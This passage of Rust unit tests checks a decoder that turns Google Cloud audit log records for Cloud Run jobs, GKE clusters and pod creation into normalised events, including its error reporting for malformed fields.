            r#"{"@type":"type.googleapis.com/google.cloud.run.v2.CreateJobRequest","parent":"projects/acme-prod/locations/us-central1","jobId":"backup","job":{"template":{"taskCount":1,"template":{"containers":[{"image":"gcr.io/acme-prod/backup:2","args":["--all"]}],"maxRetries":3}}}}"#,
            r#"{"type":"cloud_run_job","labels":{"job_name":"backup","project_id":"acme-prod","location":"us-central1"}}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(
            event.workload.as_ref().unwrap().name.as_deref(),
            Some("backup")
        );
        assert_eq!(
            event.containers[0].security.command.as_ref().unwrap()[0],
            "--all"
        );

        let text = run(
            "google.cloud.run.v2.Jobs.RunJob",
            "projects/acme-prod/locations/us-central1/jobs/backup",
            r#"{"@type":"type.googleapis.com/google.cloud.run.v2.RunJobRequest","name":"projects/acme-prod/locations/us-central1/jobs/backup","overrides":{"containerOverrides":[{"name":"backup","args":["--dump","/etc"]}],"taskCount":1}}"#,
            r#"{"type":"cloud_run_job","labels":{"job_name":"backup","project_id":"acme-prod","location":"us-central1"}}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::ContainerStart);
        assert_eq!(
            event.workload.as_ref().unwrap().name.as_deref(),
            Some("backup")
        );
        assert_eq!(
            event.containers[0].security.command.as_ref().unwrap()[1],
            "/etc"
        );

        // A container list of the wrong shape is located.
        let text = run(
            "google.cloud.run.v2.Services.CreateService",
            "projects/p/locations/l/services/s",
            r#"{"service":{"template":{"containers":[{"image":7}]}}}"#,
            "{}",
        );
        match decode(&text) {
            Err(DecodeError::Shape {
                column, message, ..
            }) => {
                assert!(message.starts_with("protoPayload.request"), "{message}");
                assert_eq!(&text[column as usize - 1..column as usize], "7");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn cluster_management_and_long_running_operations() {
        let text = r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"alice@example.com"},"serviceName":"container.googleapis.com","methodName":"google.container.v1.ClusterManager.CreateCluster","resourceName":"projects/acme-prod/zones/europe-west1-b/clusters/gke-prod"},"resource":{"type":"gke_cluster","labels":{"cluster_name":"gke-prod","location":"europe-west1-b","project_id":"acme-prod"}},"timestamp":"2024-05-14T08:00:00Z","operation":{"id":"operation-1","producer":"container.googleapis.com","last":true}}"#;
        let decoded = decode_ok(text);
        assert!(!decoded.evaluate);
        assert_eq!(decoded.event.source, Source::GcpAudit);
        assert_eq!(decoded.event.action, Action::Other);
        assert_eq!(decoded.event.cluster.as_deref(), Some("gke-prod"));
    }

    #[test]
    fn not_an_audit_log() {
        assert!(matches!(
            decode(r#"{"jsonPayload":{"message":"x"}}"#),
            Err(DecodeError::Shape { message, .. }) if message.contains("protoPayload")
        ));
        assert!(matches!(
            decode(r#"{"protoPayload":{"serviceName":"k8s.io"}}"#),
            Err(DecodeError::Shape { message, .. }) if message.contains("methodName")
        ));
        assert!(matches!(
            decode(r#"{"protoPayload":{"methodName":7}}"#),
            Err(DecodeError::Shape { column, .. }) if column > 1
        ));
        assert!(matches!(
            decode(r#"{"protoPayload":"#),
            Err(DecodeError::Syntax { .. })
        ));
        // A pod body of the wrong shape is located in the record.
        let text = gke(
            "io.k8s.core.v1.pods.create",
            "core/v1/namespaces/prod/pods/p",
            r#","request":{"kind":"Pod","spec":{"hostPID":"yes"}}"#,
        );
        assert!(matches!(
            decode(&text),
            Err(DecodeError::Shape { message, .. }) if message.starts_with("protoPayload.request")
        ));
    }
}
